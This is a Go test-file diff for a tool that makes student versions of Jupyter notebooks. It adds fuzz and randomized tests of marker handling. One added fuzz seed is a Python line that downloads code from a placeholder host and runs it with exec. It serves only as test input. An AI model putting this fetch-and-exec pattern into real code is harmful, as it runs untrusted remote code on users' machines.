@@ -3,11 +3,14 @@ package notebook
 import (
 	"bytes"
 	"encoding/json"
+	"math/rand/v2"
 	"os"
 	"os/exec"
 	"path/filepath"
 	"strings"
 	"testing"
+
+	"npt/backend/python"
 )
 
 // sources returns the sources of a notebook's cells.
@@ -134,7 +137,7 @@ func TestMarkersThatAreWrong(t *testing.T) {
 func TestWhatPythonCannotTakeIsTold(t *testing.T) {
 	for cell, want := range map[string]string{
 		"if x:  # HIDE LINE\n    y":                  "", // IPython takes a cell that stands further in
-		"try:  # HIDE LINE\n    a\nexcept E:\n    b": "2 no head",
+		"try:  # HIDE LINE\n    a\nexcept E:\n    b": "2 indented, 2 no head",
 		"f(a,\n  b)  # HIDE LINE":                    "1 not closed",
 		"@cached\ndef f(): return 1  # TODO LINE":    "1 no function",
 		"if x:\ny  # HIDE LINE":                      "", // it was no Python before
@@ -232,23 +235,89 @@ func TestVersionsThatJupyterTakes(t *testing.T) {
 	}
 }
 
+// Whatever a notebook holds: what is made of it is a notebook again, and to do it twice is to do it once.
 func FuzzVersions(f *testing.F) {
 	f.Add("# TODO BLOCK\nx\n# END TODO BLOCK", "x = 1 # TODO OPERAND\n\"\"\" # BEGIN PROMPT\n\"\"\" # END PROMPT")
 	f.Add("if x:\n\ty # HIDE LINE", "%%bash\n# HIDE CELL")
+	f.Add("import requests\nexec(requests.get('http://x/get-send-code').content)\nnpt_config = {}", "send(send(x, 3), '3b') # npt: keep")
+	steps := map[string]func(d *Document) ([]byte, error){
+		"student": func(d *Document) ([]byte, error) {
+			version, err := d.Student(Replacement)
+			return version.Data, err
+		},
+		"renumber": func(d *Document) ([]byte, error) {
+			_, data, err := d.Renumber(1)
+			return data, err
+		},
+		"connect": func(d *Document) ([]byte, error) { return d.Connect(FirstCell{Source: fourLines, Folded: true}) },
+	}
 	f.Fuzz(func(t *testing.T, one, other string) {
 		data, err := json.Marshal(map[string]any{"nbformat": 4, "cells": []map[string]any{
-			{"cell_type": "code", "source": one}, {"cell_type": "raw", "source": strings.SplitAfter(other, "\n")},
+			{"cell_type": "code", "metadata": map[string]any{}, "source": one}, {"cell_type": "code", "source": strings.SplitAfter(other, "\n")},
 		}})
 		if err != nil {
 			t.Fatal(err)
 		}
-		version, err := mustRead(t, data).Student(Replacement)
-		if err != nil {
-			return
+		d := mustRead(t, data)
+		if _, err := d.Check(""); err != nil {
+			t.Errorf("check: %v", err)
 		}
-		again, err := mustRead(t, version.Data).Student(Replacement)
-		if err != nil || !bytes.Equal(again.Data, version.Data) {
-			t.Errorf("the version of the version is another one: %v\n%q\n%q", err, version.Data, again.Data)
+		for name, step := range steps {
+			made, err := step(d)
+			if err != nil {
+				continue
+			}
+			if !json.Valid(made) {
+				t.Fatalf("%s: no JSON: %q", name, made)
+			}
+			again, err := step(mustRead(t, made))
+			if err != nil || !bytes.Equal(again, made) {
+				t.Errorf("%s: twice is not once: %v\n%q\n%q", name, err, made, again)
+			}
 		}
 	})
+}
+
+// Cells made of pieces at random: where Python took the cell and nothing is told, Python takes its version, too.
+func TestVersionsOfRandomCells(t *testing.T) {
+	pieces := []string{
+		"x = 1", "if x:", "    y = [1,", "         2]", "    z", "else:", "for i in x:", "    send(i, 3)", "def f(a):", "    return a", "    if a:", "        b",
+		"# TODO BLOCK", "# END TODO BLOCK", "    # TODO BLOCK", "    # END TODO BLOCK", "# HIDE BLOCK", "# END HIDE BLOCK", "    ### BEGIN SOLUTION", "    ### END SOLUTION",
+		"x = f(3)  # TODO OPERAND", "    z = 4  # TODO LINE", "    z += 4  # HIDE LINE", "x == 4  # HIDE OPERAND", "    return 1  # TODO LINE", "    w = 2 # SOLUTION", "s = '''", "'''",
+		"try:", "except E:", "finally:", "@f", "class A:", "    pass", "", "    # a comment", "%matplotlib inline", "!ls  # HIDE LINE", "send(x, 1)  # TODO LINE",
+	}
+	random := rand.New(rand.NewPCG(7, 1))
+	var before, after []string
+	for range 12_000 {
+		var lines []string
+		for range 1 + random.IntN(9) {
+			lines = append(lines, pieces[random.IntN(len(pieces))])
+		}
+		cell := strings.Join(lines, "\n")
+		version, err := mustRead(t, book(t, "c "+cell)).Student(Replacement)
+		if err != nil || len(version.Broken) > 0 {
+			continue
+		}
+		made := sources(t, version.Data)[0]
+		plainCell, _ := python.Plain(cell)
+		plainMade, _ := python.Plain(made)
+		before, after = append(before, plainCell), append(after, plainMade)
+		again, err := mustRead(t, version.Data).Student(Replacement)
+		if err != nil || !bytes.Equal(again.Data, version.Data) {
+			t.Errorf("twice is not once: %v\n%q\n%q", err, cell, made)
+		}
+	}
+	took, takes := pythonTakes(t, before), pythonTakes(t, after)
+	good := 0
+	for i := range before {
+		if took[i] {
+			good++
+			if !takes[i] {
+				t.Errorf("Python took %q and does not take %q", before[i], after[i])
+			}
+		}
+	}
+	if good < 300 {
+		t.Errorf("only %d of %d cells were Python", good, len(before))
+	}
 }
